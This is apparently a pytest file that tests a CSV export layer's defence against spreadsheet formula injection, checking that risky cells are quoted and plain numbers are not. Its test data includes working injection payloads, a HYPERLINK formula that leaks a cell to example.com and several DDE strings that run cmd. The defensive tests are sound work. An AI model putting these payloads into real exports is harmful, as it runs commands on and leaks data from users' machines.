"""Spreadsheet formula injection: every cell Jigsaw writes is neutralised, numbers are not mangled."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from jigsaw.core.spreadsheets import csv_response, csv_writer, looks_like_formula, safe_cell, unneutralise


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\uff1d1+1",  # a full-width equals sign
        "-Smith",
        "-",
        "+44 7700 900123",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted(value):
    assert safe_cell(value) == "'" + value
    assert unneutralise(safe_cell(value)) == value


@pytest.mark.parametrize(
    "value", ["-12", "+3", "-3.5", "-1,250.00", "0", "42", "Amelia", "O'Brien", "12 Mill Road", "a=b", ""]
)
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert safe_cell(value) == value
    assert not looks_like_formula(value)


def test_typed_values_keep_their_type():
    assert safe_cell(-12) == -12
    assert safe_cell(-3.5) == -3.5
    assert safe_cell(Decimal("-0.10")) == Decimal("-0.10")
    assert safe_cell(dt.date(2026, 12, 4)) == dt.date(2026, 12, 4)
    assert safe_cell(None) == ""
    assert safe_cell(True) is True


def test_unneutralise_leaves_other_quotes_alone():
    assert unneutralise("'tis") == "'tis"
    assert unneutralise("'-12") == "'-12"  # safe_cell never quotes a plain number
    assert unneutralise("=1+1") == "=1+1"


def test_the_csv_writer_neutralises_every_cell_and_reads_back():
    handle = io.StringIO()
    writer = csv_writer(handle)
    writer.writerow(["name", "balance", "note"])
    writer.writerows([["=cmd|' /C calc'!A0", -5, "-5"], ["Amelia", 3, "@home"]])
    rows = list(csv.reader(io.StringIO(handle.getvalue())))
    assert rows == [
        ["name", "balance", "note"],
        ["'=cmd|' /C calc'!A0", "-5", "-5"],
        ["Amelia", "3", "'@home"],
    ]


def test_a_csv_download_is_neutralised_and_opens_in_excel_with_its_accents():
    response = csv_response("people.csv", ["name"], [["=1+1"], ["Zoë"]])
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["name"], ["'=1+1"], ["Zoë"]]
